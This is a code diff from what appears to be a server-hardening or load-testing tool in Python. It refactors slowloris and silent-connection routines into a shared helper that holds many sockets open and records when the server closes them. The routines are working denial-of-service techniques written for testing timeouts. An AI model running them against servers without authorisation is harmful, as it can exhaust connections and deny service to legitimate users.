@@ -262,29 +262,9 @@ def slowloris(target: Target, seconds: float, scale: Scale) -> str:
             opened += 1
         except OSError:
             refused += 1
-    started = time.monotonic()
-    closed_at: dict[int, float] = {}
-    running = _until(max(seconds, DEADLINE_WINDOW_S))
-    while running() and len(closed_at) < len(socks):
-        for i, sock in enumerate(socks):
-            if i in closed_at:
-                continue
-            try:
-                sock.sendall(b"X")
-                sock.settimeout(0.0)
-                if sock.recv(4096) == b"":
-                    closed_at[i] = time.monotonic() - started
-            except (BlockingIOError, TimeoutError):
-                continue
-            except OSError:
-                closed_at[i] = time.monotonic() - started
-        time.sleep(0.2)  # a byte every so often: the point of the attack
-    for sock in socks:
-        sock.close()
-    if not closed_at:
-        return f"{opened} connections trickling; none closed in {seconds:g} s"
-    return (f"{opened} connections trickling ({refused} refused); {len(closed_at)} closed by "
-            f"the server, the last after {max(closed_at.values()):.1f} s")  # fmt: skip
+    return f"{opened} connections trickling ({refused} refused); " + _closes(
+        _watch_closes(socks, seconds, poke=b"X", every_s=0.2), seconds
+    )
 
 
 def conflicting_lengths(target: Target, seconds: float, scale: Scale) -> str:
@@ -365,6 +345,17 @@ def no_handshake(target: Target, seconds: float, scale: Scale) -> str:
             socks.append(target.tcp(5.0))
         except OSError:
             break
+    return f"{len(socks)} silent connections; " + _closes(
+        _watch_closes(socks, seconds, poke=None, every_s=0.05), seconds
+    )
+
+
+def _watch_closes(
+    socks: list[socket.socket], seconds: float, poke: bytes | None, every_s: float
+) -> list[float]:
+    """Seconds until the server closed each connection it closed, watching for at least
+    DEADLINE_WINDOW_S; ``poke`` is sent on each every ``every_s`` (a trickle), or
+    nothing is. The connections are closed after."""
     started = time.monotonic()
     closed_at: dict[int, float] = {}
     running = _until(max(seconds, DEADLINE_WINDOW_S))
@@ -372,21 +363,26 @@ def no_handshake(target: Target, seconds: float, scale: Scale) -> str:
         for i, sock in enumerate(socks):
             if i in closed_at:
                 continue
-            sock.settimeout(0.0)
             try:
+                if poke is not None:
+                    sock.sendall(poke)
+                sock.settimeout(0.0)
                 if sock.recv(4096) == b"":
                     closed_at[i] = time.monotonic() - started
-            except BlockingIOError:
+            except (BlockingIOError, TimeoutError, ssl.SSLWantReadError):
                 continue
             except OSError:
                 closed_at[i] = time.monotonic() - started
-        time.sleep(0.05)  # polling sockets the server should close
+        time.sleep(every_s)  # the trickle's pace, or polling sockets the server should close
     for sock in socks:
         sock.close()
-    if not closed_at:
-        return f"{len(socks)} silent connections; none closed in {seconds:g} s"
-    return (f"{len(socks)} silent connections; {len(closed_at)} closed by the server, "
-            f"the last after {max(closed_at.values()):.1f} s")  # fmt: skip
+    return list(closed_at.values())
+
+
+def _closes(closed: list[float], seconds: float) -> str:
+    if not closed:
+        return f"none closed in {seconds:g} s"
+    return f"{len(closed)} closed by the server, the last after {max(closed):.1f} s"
 
 
 def idle_flood(target: Target, seconds: float, scale: Scale) -> str:
